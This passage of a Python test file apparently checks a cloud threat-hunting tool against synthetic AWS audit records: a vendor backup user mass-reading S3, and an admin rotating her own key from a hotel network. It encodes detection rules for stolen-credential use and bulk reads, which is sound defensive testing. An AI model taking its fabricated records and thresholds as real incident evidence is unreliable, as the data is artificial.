                recs.append(api(name, src, tf, t + timedelta(seconds=2 * i), ip, TF_UA,
                                region="us-east-1" if src == "iam.amazonaws.com" else
                                "eu-west-1"))
    t = T0 + timedelta(days=3, hours=9)
    ip = TF_RUNNERS[0]
    vendor_key = "AKIAVENDORBACKUP0001"
    recs += [
        create_user(tf, t, ip, TF_UA, "vendor-backup"),
        create_access_key(tf, t + timedelta(seconds=3), ip, TF_UA, "vendor-backup", vendor_key),
        api("PutUserPolicy", "iam.amazonaws.com", tf, t + timedelta(seconds=5), ip, TF_UA,
            region="us-east-1",
            request={"userName": "vendor-backup", "policyName": "backup-read",
                     "policyDocument": '{"Statement":[{"Effect":"Allow","Action":'
                                       '["s3:List*","s3:GetObject"],"Resource":"*"}]}'}),
    ]
    vendor = user("vendor-backup", vendor_key)
    vt = t + timedelta(hours=2)
    vendor_ua = "aws-sdk-java/2.25.1 Linux/5.10 OpenJDK_64-Bit_Server_VM/17.0.10 vendor/cloudvault"
    recs.append(list_buckets(vendor, vt, "35.180.4.10", vendor_ua))
    recs += mass_read(vendor, vt + timedelta(minutes=1), "35.180.4.10", vendor_ua,
                      {"analytics": 60}, 500_000)
    res = run_hunt(cli, tmp_path, recs)
    assert_no_severe_incident(res)


def test_v9f_admin_travelling_rotates_her_own_key_from_a_hotel(cli, tmp_path):
    """alice-admin, from a hotel network she never used, with her own laptop: her usual
    calls, then she rotates her own key (no userName: her own) and works on with the new one.
    A new network doing something the key never did, but a user's housekeeping of their own
    key is not what a thief does with it."""
    hotel = "81.2.69.160"
    recs = background()
    old = user("alice-admin", ADMIN_KEY)
    # Enough office history for the key to be judged (a new network alerts: medium).
    recs += [api("ListUsers", "iam.amazonaws.com", old, T0 + timedelta(hours=9, minutes=m),
                 ADMIN_IP, ADMIN_UA, region="us-east-1") for m in range(1, 50)]
    new_key = "AKIAALICEHOTELKEY001"
    new = user("alice-admin", new_key)
    t = T0 + timedelta(days=3, hours=20)
    recs += [
        api("ListUsers", "iam.amazonaws.com", old, t, hotel, ADMIN_UA, region="us-east-1"),
        api("DescribeInstances", "ec2.amazonaws.com", old, t + timedelta(minutes=1), hotel,
            ADMIN_UA),
        create_access_key(old, t + timedelta(minutes=3), hotel, ADMIN_UA, None, new_key),
        api("UpdateAccessKey", "iam.amazonaws.com", new, t + timedelta(minutes=6), hotel,
            ADMIN_UA, region="us-east-1",
            request={"accessKeyId": ADMIN_KEY, "status": "Inactive"}),
        api("DeleteAccessKey", "iam.amazonaws.com", new, t + timedelta(minutes=8), hotel,
            ADMIN_UA, region="us-east-1", request={"accessKeyId": ADMIN_KEY}),
        api("ListUsers", "iam.amazonaws.com", new, t + timedelta(minutes=10), hotel, ADMIN_UA,
            region="us-east-1"),
    ]
    res = run_hunt(cli, tmp_path, recs)
    assert "credential_access_key_used_from_new_network" in res.fired(), res.summary()
    assert_no_severe_incident(res)
